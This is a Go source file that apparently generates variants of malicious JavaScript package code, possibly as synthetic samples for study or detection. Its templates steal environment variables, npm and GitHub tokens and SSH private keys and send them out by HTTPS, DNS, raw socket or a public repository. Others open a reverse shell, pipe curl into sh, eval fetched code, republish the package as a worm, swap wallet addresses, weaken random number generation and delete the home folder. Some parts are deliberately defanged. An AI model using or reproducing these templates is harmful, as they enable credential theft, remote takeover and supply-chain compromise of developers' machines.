package craft

import (
	"fmt"
	"strings"
)

// body returns the statements that do harm, as the variant's act and way out
// have it.
func (w *writer) body() string {
	if w.is("disguise", "fetched-later") {
		return w.fetchAndRun()
	}
	lines := []string{w.act()}
	if w.is("spread", "republish") {
		lines = append(lines, w.republish())
	}
	if w.is("cover", "erases-traces") {
		lines = append(lines, w.member(w.module("fs"), "unlinkSync")+"(__filename)")
	}
	return strings.Join(lines, "\n")
}

// browser tells whether it runs in a page, where there are no modules.
func (w *writer) browser() bool { return w.is("trigger", "in-browser") }

func (w *writer) act() string {
	data := w.name("data")
	switch w.pick["act"] {
	case "read-env":
		return fmt.Sprintf("const %s = JSON.stringify(%s)\n%s", data, w.member("process", "env"), w.send(data))
	case "read-files":
		return w.readFiles(data)
	case "read-wallet-memory":
		return w.readMemory(data)
	case "patch-other-module":
		return w.patch(data)
	case "run-command":
		return w.run()
	case "write-files":
		return w.signed(fmt.Sprintf("%s(%s, '\\n# %s\\n')", w.member(w.module("fs"), "appendFileSync"), w.atHome(".bashrc"), w.one(nouns)))
	case "destroy":
		// Without recursive it fails on a folder.
		return w.signed(fmt.Sprintf("try { %s(%s()) } catch {}", w.member(w.module("fs"), "rmSync"), w.member(w.module("os"), "homedir")))
	case "withhold":
		return fmt.Sprintf("for (let %[1]s = 666; %[1]s < Infinity; %[1]s++) { console.log('%[2]s'); break }", w.name("loop"), strings.Repeat(w.one(nouns)+" ", 3))
	}
	return w.weaken()
}

// signed sends a sign of life after some statement, if the variant has a way
// out.
func (w *writer) signed(statement string) string {
	if w.is("way-out", "none") {
		return statement
	}
	return statement + "\n" + w.send(fmt.Sprintf("%s()", w.member(w.module("os"), "hostname")))
}

func (w *writer) atHome(file string) string {
	return fmt.Sprintf("%s(%s(), %s)", w.member(w.module("path"), "join"), w.member(w.module("os"), "homedir"), w.quote(file))
}

func (w *writer) readFiles(data string) string {
	return fmt.Sprintf("let %s = ''\nfor (const f of [%s, %s, %s]) {\n  try { %s += %s(f, 'utf8') } catch {}\n}\n%s", data,
		w.atHome(".npmrc"), w.atHome(".ssh/id_rsa"), w.atHome(".config/gh/hosts.yml"), data, w.member(w.module("fs"), "readFileSync"), w.send(data))
}

func (w *writer) readMemory(data string) string {
	switch {
	case w.browser():
		return fmt.Sprintf("const %s = JSON.stringify(%s)\n%s", data, w.member("window", "localStorage"), w.send(data))
	case w.is("trigger", "at-call"):
		return fmt.Sprintf("const %s = JSON.stringify([...arguments])\n%s", data, w.send(data))
	}
	return fmt.Sprintf("const %s = Object.values(%s).map(m => m.exports && %s).filter(Boolean).join()\n%s", data,
		w.member("require", "cache"), w.member("m.exports", "privateKey"), w.send(data))
}

// patch replaces what other code calls. Without a way out it changes addresses
// that pass, into one that nobody has.
func (w *writer) patch(data string) string {
	old, address := w.name("old"), w.quote("0x"+strings.Repeat("0", 40))
	if w.browser() {
		change := fmt.Sprintf("if (o && typeof o.body === 'string') o = { ...o, body: o.body.replace(/0x[0-9a-f]{40}/gi, %s) }", address)
		if !w.is("way-out", "none") {
			change += fmt.Sprintf("; const %s = JSON.stringify(o || {}); { %s }", data, w.sendBy(old, data))
		}
		return fmt.Sprintf("const %s = %s\n%s = function (u, o) {\n  %s\n  return %s.call(this, u, o)\n}", old, w.member("window", "fetch"), w.member("window", "fetch"), change, old)
	}
	target := w.module("http")
	if w.is("way-out", "none") {
		return fmt.Sprintf("const %s = %s\n%s = (x, ...r) => %s(x, ...r)?.replace(/0x[0-9a-f]{40}/gi, %s)", old, w.member("JSON", "stringify"), w.member("JSON", "stringify"), old, address)
	}
	return fmt.Sprintf("const %s = %s\n%s = function (o, ...r) {\n  const %s = JSON.stringify(o && o.headers)\n  %s\n  return %s.call(this, o, ...r)\n}",
		old, w.member(target, "request"), w.member(target, "request"), data, w.send(data), old)
}

func (w *writer) run() string {
	child := w.module("child_process")
	switch w.pick["way-out"] {
	case "dns":
		return fmt.Sprintf("%s(%s, (e, r) => { if (r) %s(r.join('')) })", w.member(w.module("dns"), "resolveTxt"), w.quote(w.host()), w.member(child, "exec"))
	case "raw-socket":
		return fmt.Sprintf("const %[1]s = %[2]s(%[3]d, %[4]s)\nconst %[5]s = %[6]s('sh')\n%[1]s.pipe(%[5]s.stdin)\n%[5]s.stdout.pipe(%[1]s)", w.name("socket"), w.member(w.module("net"), "connect"),
			4000+w.rng.IntN(5000), w.quote(w.host()), w.name("shell"), w.member(child, "spawn"))
	case "public-repository":
		folder := w.one(nouns)
		return fmt.Sprintf("%s(%s)", w.member(child, "exec"), w.quote("git clone -q https://"+w.host()+"/"+folder+" && sh "+folder+"/run.sh"))
	case "none":
		return fmt.Sprintf("%s('sh', ['-c', %s], { detached: true, stdio: 'ignore' }).unref()", w.member(child, "spawn"), w.quote("true"))
	}
	return fmt.Sprintf("%s(%s)", w.member(child, "exec"), w.quote("curl -s https://"+w.host()+"/"+w.one(nouns)+" | sh"))
}

func (w *writer) weaken() string {
	count := w.name("count")
	if w.browser() {
		return w.told(fmt.Sprintf("let %s = 0\n%s = a => a.fill(%s++ & 1023)", count, w.member("window.crypto", "getRandomValues"), count))
	}
	return w.told(fmt.Sprintf("let %[1]s = 0\n%[2]s = n => Buffer.alloc(n, %[1]s++ & 1023)", count, w.member(w.module("crypto"), "randomBytes")))
}

// told sends a word after a statement that runs anywhere, if there is a way
// out.
func (w *writer) told(statement string) string {
	if w.is("way-out", "none") {
		return statement
	}
	return statement + "\n" + w.send("'"+w.one(nouns)+"'")
}

// republish is what a worm does, against a registry that does not exist.
func (w *writer) republish() string {
	return fmt.Sprintf("%s(%s, { cwd: __dirname, env: { ...process.env, npm_config_registry: %s } }, () => {})", w.member(w.module("child_process"), "exec"),
		w.quote("npm publish --ignore-scripts"), w.quote("https://"+w.host()+"/"))
}

// fetchAndRun asks a host for what it then runs.
func (w *writer) fetchAndRun() string {
	url := w.quote("https://" + w.host() + "/" + w.one(nouns) + ".js")
	if w.browser() {
		return fmt.Sprintf("%s(%s).then(r => r.text()).then(t => (0, eval)(t)).catch(() => {})", w.member("window", "fetch"), url)
	}
	b := w.name("body")
	return fmt.Sprintf("%s(%s, r => {\n  let %[3]s = ''\n  r.on('data', d => { %[3]s += d })\n  r.on('end', () => new Function('require', %[3]s)(require))\n}).on('error', () => {})",
		w.member(w.module("https"), "get"), url, b)
}

// send returns the statements by which an expression leaves.
func (w *writer) send(data string) string {
	if w.browser() {
		return w.sendBy(w.member("window", "fetch"), data)
	}
	switch w.pick["way-out"] {
	case "dns":
		return fmt.Sprintf("%s(Buffer.from(%s).toString('hex').slice(0, 60) + %s, () => {})", w.member(w.module("dns"), "lookup"), data, w.quote("."+w.host()))
	case "raw-socket":
		return fmt.Sprintf("%s(%d, %s, function () { this.end(%s) }).on('error', () => {})", w.member(w.module("net"), "connect"), 4000+w.rng.IntN(5000), w.quote(w.host()), data)
	case "public-repository":
		return w.request(w.quote("/user/repos"), fmt.Sprintf("{ authorization: 'token ' + process.env.%s }", "GITHUB_TOKEN"),
			fmt.Sprintf("JSON.stringify({ name: '%s', private: false, description: %s })", w.one(nouns), data))
	case "own-host":
		return fmt.Sprintf("const %[1]s = %[2]s\n%[2]s = function (o, ...r) {\n  if (o && o.headers) o.headers['x-%[3]s'] = Buffer.from(%[4]s).toString('base64')\n  return %[1]s.call(this, o, ...r)\n}",
			w.name("request"), w.member(w.module("https"), "request"), w.one(nouns), data)
	case "none":
		return ""
	}
	return w.request(w.quote("/"+w.one(nouns)), "{}", data)
}

func (w *writer) request(path, headers, data string) string {
	return fmt.Sprintf("%s({ hostname: %s, path: %s, method: 'POST', headers: %s }).on('error', () => {}).end(%s)", w.member(w.module("https"), "request"),
		w.quote(w.host()), path, headers, data)
}

// sendBy sends from a page, by a function such as fetch.
func (w *writer) sendBy(fetch, data string) string {
	url := "https://" + w.host() + "/" + w.one(nouns)
	if w.is("way-out", "own-host") {
		url = "/" + w.one(nouns)
	}
	return fmt.Sprintf("%s(%s, { method: 'POST', body: %s })", fetch, w.quote(url), data)
}
